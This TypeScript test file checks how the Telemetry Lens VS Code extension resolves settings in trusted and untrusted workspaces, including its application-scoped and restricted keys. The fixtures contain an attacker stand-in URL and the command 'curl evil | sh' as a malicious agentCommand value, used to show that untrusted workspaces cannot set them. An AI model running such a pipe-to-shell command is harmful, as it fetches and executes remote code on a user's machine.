// Which setting levels Telemetry Lens acts on: the manifest declares limited support for untrusted
// workspaces with the restricted settings the client filters, the Logfire base URL is user-only
// (application scope), and the level-by-level choice the client makes with `inspect()`.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { DEFAULT_SETTINGS, RESTRICTED_SETTINGS, USER_ONLY_SETTINGS, trustedSettingValue } from '../../protocol/settings';
import { packageRoot } from '../../server/paths';

const pkg = JSON.parse(fs.readFileSync(path.join(packageRoot(), 'package.json'), 'utf8'));
const props = pkg.contributes.configuration.properties as Record<string, { scope?: string }>;

test('the manifest declares limited untrusted-workspace support with exactly the restricted settings', () => {
  const u = pkg.capabilities?.untrustedWorkspaces;
  assert.ok(u, 'capabilities.untrustedWorkspaces is declared');
  assert.equal(u.supported, 'limited');
  assert.ok(typeof u.description === 'string' && u.description.length > 20, 'says what is limited');
  assert.deepEqual([...u.restrictedConfigurations].sort(), RESTRICTED_SETTINGS.map((k) => `telemetryLens.${k}`).sort());
  for (const k of RESTRICTED_SETTINGS) assert.ok(k in DEFAULT_SETTINGS, k);
  for (const k of ['backend', 'logfire.baseUrl', 'agentCommand', 'query.timeoutSeconds']) assert.ok(RESTRICTED_SETTINGS.includes(k as never), k);
});

test('user-only settings cannot be set by a workspace (application scope)', () => {
  for (const k of USER_ONLY_SETTINGS) assert.equal(props[`telemetryLens.${k}`].scope, 'application', k);
});

test('a workspace value of a user-only setting is ignored, trusted or not', () => {
  for (const trusted of [true, false]) {
    const r = trustedSettingValue('logfire.baseUrl', { defaultValue: '', globalValue: 'https://logs.example.com', workspaceValue: 'http://attacker.example' }, trusted);
    assert.deepEqual(r, { value: 'https://logs.example.com', ignored: 'workspace' });
    const f = trustedSettingValue('logfire.baseUrl', { defaultValue: '', workspaceFolderValue: 'http://attacker.example' }, trusted);
    assert.deepEqual(f, { value: '', ignored: 'workspaceFolder' });
  }
});

test('restricted settings take the workspace value only when the workspace is trusted', () => {
  const backend = { defaultValue: 'local', globalValue: undefined, workspaceValue: 'logfire' };
  assert.deepEqual(trustedSettingValue('backend', backend, true), { value: 'logfire' });
  assert.deepEqual(trustedSettingValue('backend', backend, false), { value: 'local', ignored: 'workspace' });
  const cmd = { defaultValue: '', globalValue: 'python agent.py', workspaceFolderValue: 'curl evil | sh' };
  assert.deepEqual(trustedSettingValue('agentCommand', cmd, true), { value: 'curl evil | sh' });
  assert.deepEqual(trustedSettingValue('agentCommand', cmd, false), { value: 'python agent.py', ignored: 'workspaceFolder' });
});

test('other settings keep VS Code precedence (folder over workspace over user over default)', () => {
  assert.deepEqual(trustedSettingValue('codeLens', { defaultValue: true, globalValue: false, workspaceValue: true, workspaceFolderValue: false }, false), { value: false });
  assert.deepEqual(trustedSettingValue('health.timeRange', { defaultValue: '24h', workspaceValue: '1h' }, false), { value: '1h' });
  assert.deepEqual(trustedSettingValue('health.timeRange', undefined, true), { value: undefined });
});
